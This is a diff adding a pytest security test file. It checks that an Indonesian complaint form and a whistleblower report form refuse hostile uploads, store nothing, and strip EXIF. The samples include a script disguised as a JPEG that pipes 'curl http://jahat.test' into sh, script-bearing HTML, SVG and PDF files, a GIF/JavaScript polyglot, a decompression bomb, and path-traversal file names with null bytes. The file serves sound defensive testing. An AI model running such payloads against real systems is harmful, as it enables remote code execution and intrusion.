@@ -1,0 +1,148 @@
+"""Upload attacks through the public complaint form and the WBS report form: each refused with a message in Bahasa
+Indonesia (the form shown again with a 4xx), nothing stored (rows and files in the upload folder counted before and
+after); an accepted JPEG comes back without its EXIF block; a hostile file name never reaches the disk."""
+import io
+import zipfile
+
+import pytest
+from PIL import Image
+
+from pengaduan.models import Attachment, Complaint
+from portal.extensions import db
+from tests.factories import login_as, post_form
+from tests.pengaduan.test_uploads import bomb_png
+from tests.security.world import counts, png, stored_files
+from tests.wbs.factories import ANSWERS, CSRF, make_member, unlock, wbs_csrf
+from wbs.models import WbsFile, WbsReport
+
+
+def jpeg(exif=True, size=(60, 40)):
+    img = Image.new('RGB', size, (10, 100, 10))
+    out = io.BytesIO()
+    if exif:
+        data = Image.Exif()
+        data[0x010F] = 'KameraRahasia'  # Make
+        data[0x0110] = 'ModelRahasia'
+        img.save(out, 'JPEG', exif=data)
+    else:
+        img.save(out, 'JPEG')
+    return out.getvalue()
+
+
+def _zip():
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, 'w') as z:
+        z.writestr('bukti.txt', 'isi')
+    return out.getvalue()
+
+
+PDF_JS = (b'%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n'
+          b'2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>'
+          b'endobj\n4 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n')
+ATTACKS = {
+    'script.jpg': ('foto.jpg', b'#!/bin/sh\ncurl http://jahat.test | sh\n'),
+    'html': ('bukti.html', b'<html><body><script>alert(1)</script></body></html>'),
+    'big': ('besar.jpg', jpeg(exif=False) + b'\0' * (6 * 1024 * 1024)),
+    'bomb': ('bom.png', bomb_png()),
+    'svg': ('gambar.svg', b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+    'pdf_js': ('surat.pdf', PDF_JS),
+    'polyglot': ('anim.gif', b'GIF89a/*\x01\x00\x01\x00\x00\xff\x00,*/=1;alert(1);//\x00;'),
+    'zip': ('arsip.zip', _zip()),
+    'truncated': ('potong.jpg', jpeg(size=(400, 300))[:600]),
+}
+
+
+def _complaint_form(unit_id, **files):
+    data = {'kind': 'pengaduan', 'category': 'waktu', 'unit': str(unit_id), 'layanan': '',
+            'title': 'Antrean legalisir lama', 'text': 'Saya menunggu tiga jam di loket legalisir tanpa kepastian.',
+            'place': 'PTSP', 'event_date': '', 'privacy': 'biasa', 'name': 'Budi Warga', 'email': 'budi@warga.id',
+            'phone': '', 'consent': 'y', 'website': ''}
+    data.update({k: (io.BytesIO(content), name) for k, (name, content) in files.items()})
+    return data
+
+
+def _unit():
+    from tests.factories import make_unit
+    return make_unit()
+
+
+@pytest.mark.parametrize('attack', sorted(ATTACKS))
+def test_complaint_form_refuses(app, attack):
+    unit = _unit()
+    client = app.test_client()
+    before, files_before = counts(), stored_files(app)
+    response = post_form(client, '/pengaduan/baru', _complaint_form(unit.id, lampiran1=ATTACKS[attack]),
+                         form_url='/pengaduan/baru', content_type='multipart/form-data')
+    response.request.environ['wsgi.input'].close()  # the test client spools a big body to a temp file
+    assert 400 <= response.status_code < 500, response.status_code
+    if response.status_code == 400:  # the form, shown again with the message on the file field
+        html = response.get_data(as_text=True)
+        assert any(word in html for word in ('ditolak', 'tidak diterima', 'melebihi', 'rusak', 'terlalu besar')), html
+        assert 'Antrean legalisir lama' in html  # the rest of the form is kept
+    assert counts() == before and stored_files(app) == files_before
+
+
+def _wbs_send(client, files):
+    token = wbs_csrf(client)
+    review = client.post('/wbs/lapor', data=dict(ANSWERS, wbs_csrf=token, aksi='tinjau'))
+    assert review.status_code == 200
+    token = CSRF.search(review.get_data(as_text=True)).group(1)
+    data = dict(ANSWERS, wbs_csrf=token, aksi='kirim', lampiran=[(io.BytesIO(c), n) for n, c in files])
+    return client.post('/wbs/lapor', data=data, content_type='multipart/form-data')
+
+
+@pytest.mark.parametrize('attack', sorted(ATTACKS))
+def test_wbs_form_refuses(app, attack):
+    client = app.test_client()
+    before, files_before = counts(), stored_files(app)
+    response = _wbs_send(client, [ATTACKS[attack]])
+    response.request.environ['wsgi.input'].close()
+    assert 400 <= response.status_code < 500, response.status_code
+    if response.status_code == 422:
+        html = response.get_data(as_text=True)
+        assert any(word in html for word in ('ditolak', 'tidak diterima', 'melebihi', 'rusak', 'terlalu besar')), html
+        assert 'id="tanda-terima"' not in html
+    assert counts() == before and stored_files(app) == files_before
+
+
+def test_complaint_jpeg_is_stored_without_exif_under_a_safe_name(app):
+    unit = _unit()
+    client = app.test_client()
+    assert Image.open(io.BytesIO(jpeg())).getexif()  # the upload has EXIF
+    response = post_form(client, '/pengaduan/baru',
+                         _complaint_form(unit.id, lampiran1=('foto.jpg', jpeg()),
+                                         lampiran2=('../../etc/pass\x00wd.png', png())),
+                         form_url='/pengaduan/baru', content_type='multipart/form-data')
+    if response.status_code != 302:  # a hostile name may be refused outright: then nothing is stored
+        assert response.status_code == 400 and db.session.scalar(db.select(db.func.count(Complaint.id))) == 0
+        return
+    items = db.session.scalars(db.select(Attachment).order_by(Attachment.id)).all()
+    assert len(items) == 2
+    for item in items:
+        assert '/' not in item.name and '\\' not in item.name and '\x00' not in item.name and '..' not in item.name
+    root = app.config['UPLOAD_FOLDER']
+    assert all(p.startswith(root) for p in stored_files(app))
+    staff = app.test_client()
+    login_as(staff, 'superadmin')
+    data = staff.get(f'/staf/pengaduan/{items[0].complaint_id}/lampiran/{items[0].id}').data
+    image = Image.open(io.BytesIO(data))
+    assert image.format == 'JPEG' and not image.getexif()
+
+
+def test_wbs_jpeg_is_stored_without_exif(app):
+    member = make_member()
+    client = app.test_client()
+    response = _wbs_send(client, [('foto.jpg', jpeg()), ('../..\x00/x.png', png())])
+    assert response.status_code == 200 and 'id="tanda-terima"' in response.get_data(as_text=True)
+    report = db.session.scalars(db.select(WbsReport)).one()
+    items = db.session.scalars(db.select(WbsFile).where(WbsFile.report_id == report.id).order_by(WbsFile.id)).all()
+    assert len(items) == 2
+    team = app.test_client()
+    unlock(team, member)
+    got = team.get(f'/staf/wbs/laporan/{report.id}/berkas/{items[0].id}')
+    image = Image.open(io.BytesIO(got.data))
+    assert image.format == 'JPEG' and not image.getexif()
+    name = got.headers['Content-Disposition']
+    second = team.get(f'/staf/wbs/laporan/{report.id}/berkas/{items[1].id}').headers['Content-Disposition']
+    for header in (name, second):
+        assert '/' not in header.split('filename=')[1] and '\x00' not in header
